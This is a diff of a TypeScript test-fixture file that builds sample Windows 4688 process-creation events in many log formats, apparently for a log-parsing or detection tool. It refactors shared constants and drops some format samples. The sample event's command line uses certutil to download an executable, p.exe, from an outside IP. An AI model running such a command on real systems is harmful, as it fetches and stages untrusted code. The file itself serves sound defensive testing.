@@ -1,13 +1,13 @@
-import { at, iso, json, lines, type Sample, START } from "./sample.ts";
+import { iso, json, type Sample, START } from "./sample.ts";
 
-const DATA = {
+export const PROCESS = {
   SubjectUserName: "lena",
   SubjectDomainName: "NORTH",
   NewProcessName: "C:\\Windows\\System32\\certutil.exe",
   CommandLine: "certutil -urlcache -f http://203.0.113.8/p.exe p.exe",
   ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
 };
-const common = {
+export const PROCESS_SAMPLE = {
   events: 1,
   type: "winsec",
   says: ["-urlcache -f http://203.0.113.8", "NORTH\\lena", "PC-4", "4688"],
@@ -27,7 +27,7 @@ function evtxRecord(index = 0): Record<string, unknown> {
         Computer: "PC-4.north.example",
         Security: null,
       },
-      EventData: DATA,
+      EventData: PROCESS,
     },
   };
 }
@@ -44,7 +44,7 @@ function separateAttributes(): Record<string, unknown> {
         Channel: "Security",
         Computer: "PC-4",
       },
-      EventData: DATA,
+      EventData: PROCESS,
     },
   };
 }
@@ -60,7 +60,7 @@ function namedData(): Record<string, unknown> {
         Computer: "PC-4",
       },
       EventData: {
-        Data: Object.entries(DATA).map(([name, value]) => ({ "@Name": name, "#text": value })),
+        Data: Object.entries(PROCESS).map(([name, value]) => ({ "@Name": name, "#text": value })),
       },
     },
   };
@@ -80,7 +80,7 @@ export function beatRecord(index = 0): Record<string, unknown> {
       event_id: "4688",
       provider_name: "Microsoft-Windows-Security-Auditing",
       record_id: 900 + index,
-      event_data: DATA,
+      event_data: PROCESS,
     },
   };
 }
@@ -94,16 +94,10 @@ function flattened(): Record<string, unknown> {
     "winlog.event_id": "4688",
     "winlog.computer_name": "PC-4",
     ...Object.fromEntries(
-      Object.entries(DATA).map(([name, value]) => [`winlog.event_data.${name}`, value]),
+      Object.entries(PROCESS).map(([name, value]) => [`winlog.event_data.${name}`, value]),
     ),
   };
 }
-
-const XML = `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{1}'/><EventID>4688</EventID><TimeCreated SystemTime='${iso(0)}'/><EventRecordID>900</EventRecordID><Channel>Security</Channel><Computer>PC-4</Computer><Security/></System><EventData>${Object.entries(
-  DATA,
-)
-  .map(([name, value]) => `<Data Name='${name}'>${value.replaceAll("&", "&amp;")}</Data>`)
-  .join("")}</EventData></Event>`;
 
 export const WINDOWS_SAMPLES: readonly Sample[] = [
   {
@@ -121,9 +115,9 @@ export const WINDOWS_SAMPLES: readonly Sample[] = [
             Security: { "#attributes": { UserID: "S-1-5-18" } },
           },
           EventData: {
-            Image: DATA.NewProcessName,
-            CommandLine: DATA.CommandLine,
-            ParentImage: DATA.ParentProcessName,
+            Image: PROCESS.NewProcessName,
+            CommandLine: PROCESS.CommandLine,
+            ParentImage: PROCESS.ParentProcessName,
             User: "NORTH\\lena",
           },
         },
@@ -134,23 +128,23 @@ export const WINDOWS_SAMPLES: readonly Sample[] = [
     says: ["users: NORTH\\lena", "-urlcache -f http://203.0.113.8"],
     first: START,
   },
-  { ...common, name: "evtx_dump", schema: "windows-evtx", documents: [json(evtxRecord())] },
+  { ...PROCESS_SAMPLE, name: "evtx_dump", schema: "windows-evtx", documents: [json(evtxRecord())] },
   {
-    ...common,
+    ...PROCESS_SAMPLE,
     name: "evtx_dump, attributes apart",
     schema: "windows-evtx",
     documents: [json(separateAttributes())],
   },
-  { ...common, name: "xmltodict", schema: "windows-evtx", documents: [json(namedData())] },
-  { ...common, name: "winlogbeat", schema: "winlogbeat", documents: [json(beatRecord())] },
+  { ...PROCESS_SAMPLE, name: "xmltodict", schema: "windows-evtx", documents: [json(namedData())] },
+  { ...PROCESS_SAMPLE, name: "winlogbeat", schema: "winlogbeat", documents: [json(beatRecord())] },
   {
-    ...common,
+    ...PROCESS_SAMPLE,
     name: "winlogbeat, fields flattened",
     schema: "winlogbeat",
     documents: [json(flattened())],
   },
   {
-    ...common,
+    ...PROCESS_SAMPLE,
     name: "winlogbeat 6",
     schema: "winlogbeat",
     documents: [
@@ -161,12 +155,12 @@ export const WINDOWS_SAMPLES: readonly Sample[] = [
         source_name: "Microsoft-Windows-Security-Auditing",
         event_id: 4688,
         computer_name: "PC-4",
-        event_data: DATA,
+        event_data: PROCESS,
       }),
     ],
   },
   {
-    ...common,
+    ...PROCESS_SAMPLE,
     name: "chainsaw, hunt",
     schema: "chainsaw",
     alerts: 1,
@@ -182,84 +176,5 @@ export const WINDOWS_SAMPLES: readonly Sample[] = [
         },
       ]),
     ],
-  },
-  {
-    ...common,
-    name: "nxlog",
-    schema: "windows-flat",
-    documents: [
-      json({
-        EventTime: iso(0).slice(0, 19).replace("T", " "),
-        Hostname: "PC-4",
-        EventType: "AUDIT_SUCCESS",
-        SeverityValue: 2,
-        EventID: 4688,
-        SourceName: "Microsoft-Windows-Security-Auditing",
-        Channel: "Security",
-        RecordNumber: 900,
-        Message: "A new process has been created.",
-        EventReceivedTime: iso(1),
-        SourceModuleType: "im_msvistalog",
-        ...DATA,
-      }),
-    ],
-  },
-  {
-    ...common,
-    name: "Azure SecurityEvent",
-    schema: "azure-securityevent",
-    documents: [
-      json({
-        TenantId: "t",
-        TimeGenerated: iso(0),
-        Computer: "PC-4",
-        EventID: 4688,
-        Channel: "Security",
-        EventSourceName: "Microsoft-Windows-Security-Auditing",
-        Activity: "4688 - A new process has been created.",
-        Type: "SecurityEvent",
-        ...DATA,
-      }),
-    ],
-  },
-  {
-    ...common,
-    name: "Get-WinEvent",
-    schema: "get-winevent",
-    says: ["-urlcache -f http://203.0.113.8", "PC-4", "4688"],
-    documents: [
-      json({
-        Id: 4688,
-        LogName: "Security",
-        ProviderName: "Microsoft-Windows-Security-Auditing",
-        MachineName: "PC-4",
-        TimeCreated: `/Date(${at(0)})/`,
-        RecordId: 900,
-        Message: `A new process has been created.\r\n\r\nProcess Information:\r\n\tNew Process Name:\t${DATA.NewProcessName}\r\n\tProcess Command Line:\t${DATA.CommandLine}\r\n`,
-      }),
-    ],
-  },
-  {
-    ...common,
-    name: "text of an event, as Splunk keeps it",
-    schema: "windows-text",
-    documents: [
-      json({
-        preview: false,
-        result: {
-          _time: iso(0),
-          host: "PC-4",
-          source: "WinEventLog:Security",
-          _raw: `03/04/2025 06:06:07 AM\nLogName=Security\nSourceName=Microsoft Windows security auditing.\nEventCode=4688\nEventType=0\nComputerName=PC-4.north.example\nRecordNumber=900\nMessage=A new process has been created.\n\nCreator Subject:\n\tAccount Name:\t\tlena\n\tAccount Domain:\t\tNORTH\n\nProcess Information:\n\tNew Process Name:\t${DATA.NewProcessName}\n\tCreator Process Name:\t${DATA.ParentProcessName}\n\tProcess Command Line:\t${DATA.CommandLine}\n`,
-        },
-      }),
-    ],
-    says: ["-urlcache -f http://203.0.113.8", "PC-4", "4688"],
-  },
-  {
-    ...common,
-    name: "XML of an event, as Splunk keeps it",
-    schema: "windows-xml",
-    documents: lines(XML),
   },
 ];
